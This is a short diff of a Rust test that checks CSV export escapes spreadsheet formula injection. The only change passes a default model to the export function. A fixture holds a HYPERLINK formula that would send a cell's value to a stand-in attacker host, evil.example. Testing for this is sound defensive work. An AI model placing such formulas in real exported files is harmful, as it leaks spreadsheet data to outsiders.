@@ -134,7 +134,7 @@ fn expect(name: &str, r: &Results) {
                 Some("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")")
             );
             assert_eq!(name_of(r, "A4"), Some("-3.5"));
-            let csv = customer_health::output::to_csv(r);
+            let csv = customer_health::output::to_csv(r, &Model::default());
             assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
             assert!(csv.contains("'=1+1,"), "{csv}");
             assert!(csv.contains(",'-2+3,"), "{csv}");
